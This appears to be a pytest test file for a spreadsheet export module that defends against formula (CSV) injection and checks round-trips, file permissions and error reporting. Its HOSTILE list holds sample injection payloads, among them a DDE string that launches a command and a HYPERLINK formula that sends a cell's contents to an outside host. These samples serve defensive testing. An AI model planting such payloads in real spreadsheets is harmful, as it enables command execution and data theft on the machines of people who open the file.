from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pipeline.errors import PipelineError
from pipeline.exchange.spreadsheets import disarmed, rearmed, save, write_sheet
from pipeline.sheets import read_sheet

HOSTILE = [
    '=HYPERLINK("http://x.nl/?"&A1;"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]
HARMLESS = ["", "Ouder 1", "'n Hele dag", "'s Avonds", "a=b", "1-2", "nee.", "[lacht]"]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe(text: str) -> None:
    assert disarmed(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert disarmed(text) == text


@given(st.text())
@example("'=1")
@example("'' @")
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert rearmed(disarmed(text)) == text


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_written_table_reads_back_equal(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"lijst{suffix}"
    texts = [*HOSTILE, *HARMLESS[1:], 'a;"b"\nc', "Zoë"]
    write_sheet(path, [[text, 3] for text in texts], columns=["label", "beurten"])
    rows = [row for _, row in read_sheet(path).rows]
    # Spaces around a cell are never part of it.
    assert [row["label"] for row in rows] == [text.strip() for text in texts]
    assert {row["beurten"] for row in rows} == {"3"}


def test_a_workbook_holds_text_and_no_formulas(tmp_path: Path) -> None:
    path = tmp_path / "lijst.xlsx"
    write_sheet(path, [[text] for text in HOSTILE], columns=["label"])
    cells = [row[0] for row in load_workbook(path).active.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells), "editing the cell would make a formula of it"


def test_a_csv_opens_well_in_a_dutch_excel(tmp_path: Path) -> None:
    path = tmp_path / "lijst.csv"
    write_sheet(path, [["Zoë", 1]], columns=["label", "n"])
    assert path.read_bytes() == "\ufefflabel;n\r\nZoë;1\r\n".encode()


@pytest.mark.parametrize(("name", "text"), [("lijst.ods", "x"), ("lijst.xlsx", "x" * 32_768)])
def test_what_cannot_be_written_is_said_and_nothing_is_written(tmp_path: Path, name: str, text: str) -> None:
    with pytest.raises(PipelineError):
        write_sheet(tmp_path / name, [[text]], columns=["label"])
    assert list(tmp_path.iterdir()) == []


def test_a_file_that_only_its_owner_may_read_stays_so(tmp_path: Path) -> None:
    path = tmp_path / "sprekers.csv"
    path.touch(mode=0o600)
    save(path, b"x")
    assert path.stat().st_mode & 0o777 == 0o600


def test_no_folder_is_named_where_writing_fails(tmp_path: Path) -> None:
    (tmp_path / "kluis.csv").mkdir()
    with pytest.raises(PipelineError) as caught:
        save(tmp_path / "kluis.csv", b"x")
    assert [problem.where for problem in caught.value.problems] == ["kluis.csv"]
